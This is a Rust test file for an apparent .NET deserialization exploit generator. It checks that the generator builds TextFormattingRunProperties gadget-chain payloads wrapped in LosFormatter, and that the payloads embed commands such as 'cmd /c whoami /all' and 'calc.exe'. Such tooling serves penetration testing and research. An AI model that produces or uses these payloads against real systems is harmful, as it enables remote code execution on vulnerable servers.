//! End-to-end tests for payload generation.

use nrbf_format::{RecordType, StreamSummary, decode_7bit_int};
use nrbf_gadget::{
    GadgetError, GenerateOptions, generate, generate_formatted, generate_gadget_chain,
};

const EDITOR_ASSEMBLY: &[u8] =
    b"Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35";

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn test_los_formatter_payload_layout() {
    let payload = generate("calc.exe", &GenerateOptions::default()).unwrap();

    assert_eq!(&payload[..3], &[0xFF, 0x01, 0x32]);
    let (len, width) = decode_7bit_int(&payload[3..]).unwrap();
    let body = &payload[3 + width..];
    assert_eq!(len as usize, body.len());

    // header record: tag 0, root 1, header -1, version 1.0
    assert_eq!(
        &body[..17],
        &[
            0x00, 0x01, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0x01, 0x00, 0x00, 0x00, 0x00,
            0x00, 0x00, 0x00
        ]
    );
    assert_eq!(body.last(), Some(&0x0B));

    let summary = StreamSummary::read(body).unwrap();
    assert_eq!(
        summary.record_types(),
        vec![
            RecordType::SerializedStreamHeader,
            RecordType::BinaryLibrary,
            RecordType::ClassWithMembersAndTypes,
            RecordType::BinaryObjectString,
            RecordType::MessageEnd,
        ]
    );
    assert_eq!(summary.root_id, Some(1));
}

#[test]
fn test_raw_output_matches_chain_bytes() {
    let raw = generate("calc.exe", &GenerateOptions::default().raw()).unwrap();
    let chain = generate_gadget_chain("calc.exe", "TextFormattingRunProperties")
        .unwrap()
        .to_bytes()
        .unwrap();
    assert_eq!(raw, chain);

    let wrapped = generate_formatted(&raw, "LosFormatter").unwrap();
    assert_eq!(
        wrapped,
        generate("calc.exe", &GenerateOptions::default()).unwrap()
    );
}

#[test]
fn test_payload_embeds_library_and_command() {
    let payload = generate("whoami /all", &GenerateOptions::default()).unwrap();
    assert!(contains(&payload, EDITOR_ASSEMBLY));
    assert!(contains(&payload, b"ForegroundBrush"));
    assert!(contains(
        &payload,
        b"<S:String>cmd</S:String><S:String>/c whoami /all</S:String>"
    ));
}

#[test]
fn test_command_is_xml_escaped() {
    let payload = generate("echo <a> & \"b\"", &GenerateOptions::default()).unwrap();
    assert!(contains(
        &payload,
        b"<S:String>/c echo &lt;a&gt; &amp; &quot;b&quot;</S:String>"
    ));
}

#[test]
fn test_output_is_deterministic() {
    let options = GenerateOptions::default();
    assert_eq!(
        generate("calc.exe", &options).unwrap(),
        generate("calc.exe", &options).unwrap()
    );
}

#[test]
fn test_unknown_names_produce_no_output() {
    let err = generate(
        "calc.exe",
        &GenerateOptions::default().with_gadget_chain("Bogus"),
    )
    .unwrap_err();
    assert!(matches!(err, GadgetError::UnsupportedGadgetChain { ref name } if name == "Bogus"));

    let err = generate(
        "calc.exe",
        &GenerateOptions::default().with_formatter("Bogus"),
    )
    .unwrap_err();
    assert!(matches!(err, GadgetError::UnsupportedFormatter { ref name } if name == "Bogus"));

    assert!(matches!(
        generate_formatted(&[0x0B], "Bogus"),
        Err(GadgetError::UnsupportedFormatter { .. })
    ));
}

#[test]
fn test_empty_command() {
    let raw = generate("", &GenerateOptions::default().raw()).unwrap();
    assert!(contains(&raw, b"<S:String>/c </S:String>"));
    assert!(StreamSummary::read(&raw).is_ok());
}
